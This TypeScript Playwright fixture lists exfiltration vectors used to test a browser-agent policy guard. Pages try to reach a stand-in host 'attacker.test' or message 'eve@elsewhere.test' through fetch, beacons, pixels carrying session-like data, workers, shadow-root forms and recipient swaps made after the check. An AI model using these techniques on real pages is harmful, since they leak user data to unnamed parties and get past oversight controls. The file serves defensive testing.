import type { Page } from '@playwright/test';
import type { TaskPolicyInput } from '../src/core/policy';
import type { TestServer } from './fixtures/server';

/**
 * The attack vectors of issue 4, as data. Each vector performs one action from a page on ALLOWED_HOST
 * towards a probe URL; the test server's request log decides whether the action reached a server.
 *
 * - `domain` vectors: allowed case → probe on ALLOWED_HOST; disallowed case → probe on ATTACKER_HOST
 *   (a site the task does not name). The network floor should stop these on its own.
 * - `semantic` vectors: both cases → probe on ALLOWED_HOST; the disallowed case names a recipient the
 *   task does not (in a body or form field, where the network cannot see it).
 */

export const ALLOWED_HOST = 'allowed.test';
export const ATTACKER_HOST = 'attacker.test';
export const ALLOWED_RECIPIENT = 'bob@allowed.test';
export const FOREIGN_RECIPIENT = 'eve@elsewhere.test';

/** "Read and write on allowed.test, messages only to bob@allowed.test." */
export const VECTOR_POLICY: TaskPolicyInput = {
  version: 1,
  taskId: 'vectors',
  issuedAt: 0,
  expiresAt: null,
  ceilings: { EXTERNAL_WRITE: 'allow', COMMUNICATION: 'allow' },
  allow: { tools: [], capabilities: [], classes: ['READ', 'EXTERNAL_WRITE', 'COMMUNICATION'] },
  domains: [ALLOWED_HOST],
  recipients: [ALLOWED_RECIPIENT],
};

export interface VectorCase {
  page: Page;
  server: TestServer;
  /** Origin of the page the action starts from (ALLOWED_HOST). */
  home: string;
  /** The probe URL the action tries to reach (its path is unique to this case). */
  target: string;
  /** The recipient the action names (in a body or form field). */
  recipient: string;
  /** A local file for upload vectors. */
  uploadFile: string;
}

export interface Vector {
  name: string;
  kind: 'domain' | 'semantic';
  /** Path of the probe, below the case's unique id: `/v/ID` unless the vector needs a special route. */
  probePath?(id: string): string;
  /** Scheme of the probe URL (WebSocket uses ws:). */
  scheme?: 'http' | 'ws';
  /** Markup of the page the action starts from (served at HOME/case/ID), or null to start from a blank tab. */
  html?(c: VectorCase): string | null;
  run(c: VectorCase): Promise<unknown>;
  /** Submits through a trusted submit event, which the ISOLATED form guard holds (MAIN hooks or not). */
  submitEvent?: true;
}

const ignore = (): void => undefined;
/**
 * What the dependency vectors carry: more than one dependency request may carry to a site the task does
 * not name (dnr.ts, MAX_DEPENDENCY_PATH). Since issue 37 a dependency load to such a site that carries no
 * session data and stays within that length is a page's dependency and loads (e2e/floor-volume.spec.ts).
 */
const PIXEL_DATA = 'session-abc123-'.repeat(8);
const json = (value: unknown): string => JSON.stringify(value).replace(/</g, '\\u003c');

function form(c: VectorCase, method: 'get' | 'post', extra = ''): string {
  const fields = method === 'post' ? `<input name="to" value="${c.recipient}"><input name="note" value="hello">` : '<input name="q" value="hello">';
  return `<form method="${method}" action="${c.target}" ${extra}>${fields}<button id="send">Send</button></form>`;
}

/** A form with the recipient field inside an open or closed shadow root; `window.__send` is its button. */
function shadowForm(c: VectorCase, mode: 'open' | 'closed'): string {
  return `<div id="host"></div><script>
    const root = document.getElementById('host').attachShadow({ mode: ${json(mode)} });
    root.innerHTML = ${json(form(c, 'post'))};
    window.__send = root.querySelector('button');
  </script>`;
}

/**
 * A form that shows the named recipient and swaps in `c.recipient` only on the submission itself: in a
 * `submit` handler, or in a `formdata` listener armed by the submit event (so entry lists built to check
 * the form see the named recipient).
 */
function formChangedOnSubmit(c: VectorCase, how: 'submit' | 'formdata'): string {
  const swap =
    how === 'submit'
      ? `f.addEventListener('submit', () => { f.elements.to.value = ${json(c.recipient)}; });`
      : `let armed = false;
         f.addEventListener('submit', () => { armed = true; });
         f.addEventListener('formdata', (e) => { if (armed) e.formData.set('to', ${json(c.recipient)}); });`;
  return `${form({ ...c, recipient: ALLOWED_RECIPIENT }, 'post')}<script>const f = document.forms[0]; ${swap}</script>`;
}

const clickShadowButton = (c: VectorCase) => c.page.evaluate(() => (window as unknown as { __send: HTMLButtonElement }).__send.click());

const fetchJson = (c: VectorCase) =>
  c.page.evaluate(
    ({ url, to }) =>
      fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ to, note: 'hello' }) }).then(
        () => 'ok',
        (e: unknown) => String(e),
      ),
    { url: c.target, to: c.recipient },
  );

const xhrForm = (c: VectorCase) =>
  c.page.evaluate(
    ({ url, to }) =>
      new Promise<string>((resolve) => {
        const xhr = new XMLHttpRequest();
        xhr.open('POST', url);
        xhr.setRequestHeader('content-type', 'application/x-www-form-urlencoded');
        xhr.onloadend = () => resolve(String(xhr.status));
        xhr.send(new URLSearchParams({ to, note: 'hello' }).toString());
      }),
    { url: c.target, to: c.recipient },
  );

export const VECTORS: Vector[] = [
  { name: 'link click', kind: 'domain', html: (c) => `<a id="go" href="${c.target}">go</a>`, run: (c) => c.page.click('#go') },
  { name: 'location assignment', kind: 'domain', run: (c) => c.page.evaluate((url) => void (location.href = url), c.target) },
  { name: 'page.goto', kind: 'domain', html: () => null, run: (c) => c.page.goto(c.target).catch(ignore) },
  { name: 'window.open', kind: 'domain', run: (c) => c.page.evaluate((url) => void window.open(url), c.target) },
  {
    name: 'meta refresh',
    kind: 'domain',
    html: (c) => `<meta http-equiv="refresh" content="0;url=${c.target}">`,
    run: async () => undefined,
  },
  {
    name: 'redirect chain',
    kind: 'domain',
    html: () => null,
    run: (c) => {
      const second = `${c.home}/redirect?to=${encodeURIComponent(c.target)}`;
      return c.page.goto(`${c.home}/redirect?to=${encodeURIComponent(second)}`).catch(ignore);
    },
  },
  {
    name: 'data: navigation',
    kind: 'domain',
    html: () => null,
    run: (c) => c.page.goto(`data:text/html,${encodeURIComponent(`<script>location.href = ${json(c.target)}</script>`)}`).catch(ignore),
  },
  {
    name: 'blob: navigation',
    kind: 'domain',
    run: (c) =>
      c.page.evaluate((script) => {
        location.href = URL.createObjectURL(new Blob([script], { type: 'text/html' }));
      }, `<script>location.href = ${json(c.target)}</script>`),
  },
  { name: 'form POST', kind: 'domain', submitEvent: true, html: (c) => form(c, 'post'), run: (c) => c.page.click('#send') },
  { name: 'form GET', kind: 'domain', submitEvent: true, html: (c) => form(c, 'get'), run: (c) => c.page.click('#send') },
  { name: 'form.submit()', kind: 'domain', html: (c) => form(c, 'post'), run: (c) => c.page.evaluate(() => document.forms[0]!.submit()) },
  {
    name: 'requestSubmit()',
    kind: 'domain',
    submitEvent: true,
    html: (c) => form(c, 'post'),
    run: (c) => c.page.evaluate(() => document.forms[0]!.requestSubmit()),
  },
  { name: 'fetch', kind: 'domain', run: fetchJson },
  { name: 'XMLHttpRequest', kind: 'domain', run: xhrForm },
  {
    name: 'sendBeacon',
    kind: 'domain',
    run: (c) => c.page.evaluate(({ url, to }) => navigator.sendBeacon(url, JSON.stringify({ to })), { url: c.target, to: c.recipient }),
  },
  {
    name: 'WebSocket',
    kind: 'domain',
    scheme: 'ws',
    run: (c) =>
      c.page.evaluate(
        ({ url, to }) =>
          new Promise<string>((resolve) => {
            const socket = new WebSocket(url);
            socket.onopen = () => socket.send(JSON.stringify({ to }));
            socket.onmessage = () => resolve('echo');
            socket.onclose = () => resolve('closed');
            setTimeout(() => resolve('timeout'), 1_000);
          }),
        { url: c.target, to: c.recipient },
      ),
  },
  {
    name: 'EventSource',
    kind: 'domain',
    probePath: (id) => `/sse/${id}`,
    run: (c) =>
      c.page.evaluate(
        (url) =>
          new Promise<string>((resolve) => {
            const source = new EventSource(url);
            source.onmessage = () => {
              source.close();
              resolve('message');
            };
            source.onerror = () => {
              source.close();
              resolve('error');
            };
          }),
        c.target,
      ),
  },
  {
    name: 'image pixel',
    kind: 'domain',
    probePath: (id) => `/pixel/${id}.gif`,
    run: (c) => c.page.evaluate((url) => void (new Image().src = `${url}`), `${c.target}?d=${PIXEL_DATA}`),
  },
  // Element-initiated loads (issue 11): the MAIN hooks hold them before the request exists
  // (e2e/element-loads.spec.ts shows the MAIN layer deciding each); here, who stops them without hooks.
  {
    name: 'img srcset',
    kind: 'domain',
    probePath: (id) => `/pixel/${id}.gif`,
    run: (c) => c.page.evaluate((url) => document.body.append(Object.assign(document.createElement('img'), { srcset: `${url} 1x` })), `${c.target}?d=${PIXEL_DATA}`),
  },
  {
    name: 'innerHTML image',
    kind: 'domain',
    probePath: (id) => `/pixel/${id}.gif`,
    run: (c) => c.page.evaluate((url) => void (document.body.innerHTML += `<img src="${url}">`), `${c.target}?d=${PIXEL_DATA}`),
  },
  {
    name: 'CSS background via style',
    kind: 'domain',
    probePath: (id) => `/pixel/${id}.gif`,
    run: (c) =>
      c.page.evaluate((url) => {
        const div = document.createElement('div');
        div.style.cssText = 'width:10px;height:10px';
        div.style.backgroundImage = `url("${url}")`;
        document.body.append(div);
      }, `${c.target}?d=${PIXEL_DATA}`),
  },
  {
    name: 'iframe src',
    kind: 'domain',
    run: (c) =>
      c.page.evaluate((url) => {
        const frame = document.createElement('iframe');
        frame.src = `${url}`;
        document.body.append(frame);
      }, `${c.target}?d=${PIXEL_DATA}`),
  },
  {
    name: '<a ping>',
    kind: 'domain',
    html: (c) => `<a id="go" href="${c.home}/landing" ping="${c.target}">go</a>`,
    run: (c) => c.page.click('#go'),
  },
  {
    name: 'fetch from a Worker',
    kind: 'domain',
    run: (c) =>
      c.page.evaluate((script) => {
        new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
      }, `fetch(${json(c.target)}, { method: 'POST', body: ${json(JSON.stringify({ to: c.recipient }))} }).catch(() => {});`),
  },
  {
    name: 'fetch through a native restored from a fresh iframe',
    kind: 'domain',
    run: (c) =>
      c.page.evaluate(
        ({ url, to }) => {
          const frame = document.createElement('iframe');
          document.body.append(frame);
          const nativeFetch = frame.contentWindow!.fetch;
          return nativeFetch.call(window, url, { method: 'POST', body: JSON.stringify({ to }) }).then(
            () => 'ok',
            (e: unknown) => String(e),
          );
        },
        { url: c.target, to: c.recipient },
      ),
  },
  {
    name: 'download',
    kind: 'domain',
    probePath: (id) => `/download/${id}.txt`,
    html: (c) => `<a id="go" href="${c.target}" download>download</a>`,
    run: (c) => c.page.click('#go'),
  },
  {
    name: 'upload',
    kind: 'domain',
    submitEvent: true,
    html: (c) => form(c, 'post', 'enctype="multipart/form-data"').replace('<button', '<input type="file" name="attachment"><button'),
    run: async (c) => {
      await c.page.setInputFiles('input[type=file]', c.uploadFile);
      await c.page.click('#send');
    },
  },
  // Same site, a recipient the task does not name: only the semantic layer can see it.
  { name: 'fetch JSON naming another recipient', kind: 'semantic', run: fetchJson },
  { name: 'XHR form body naming another recipient', kind: 'semantic', run: xhrForm },
  { name: 'form POST naming another recipient', kind: 'semantic', submitEvent: true, html: (c) => form(c, 'post'), run: (c) => c.page.click('#send') },
  {
    name: 'form.submit() naming another recipient',
    kind: 'semantic',
    html: (c) => form(c, 'post'),
    run: (c) => c.page.evaluate(() => document.forms[0]!.submit()),
  },
  {
    name: 'dedicated Worker POST naming another recipient',
    kind: 'semantic',
    run: (c) => {
      // A same-origin worker script whose fetch uses a path relative to the script.
      const probe = new URL(c.target);
      const script = `/worker${probe.pathname}.js`;
      c.server.setPage(script, {
        contentType: 'text/javascript',
        body: `fetch(${json(probe.pathname)}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: ${json(JSON.stringify({ to: c.recipient, note: 'hello' }))} }).catch(() => {});`,
      });
      return c.page.evaluate((url) => void new Worker(url), script);
    },
  },
  { name: 'form in an open shadow root naming another recipient', kind: 'semantic', html: (c) => shadowForm(c, 'open'), run: clickShadowButton },
  { name: 'form in a closed shadow root naming another recipient', kind: 'semantic', html: (c) => shadowForm(c, 'closed'), run: clickShadowButton },
  {
    name: 'submit handler that swaps in another recipient after the check',
    kind: 'semantic',
    submitEvent: true,
    html: (c) => formChangedOnSubmit(c, 'submit'),
    run: (c) => c.page.click('#send'),
  },
  {
    name: 'formdata listener that swaps in another recipient after the check',
    kind: 'semantic',
    submitEvent: true,
    html: (c) => formChangedOnSubmit(c, 'formdata'),
    run: (c) => c.page.click('#send'),
  },
];
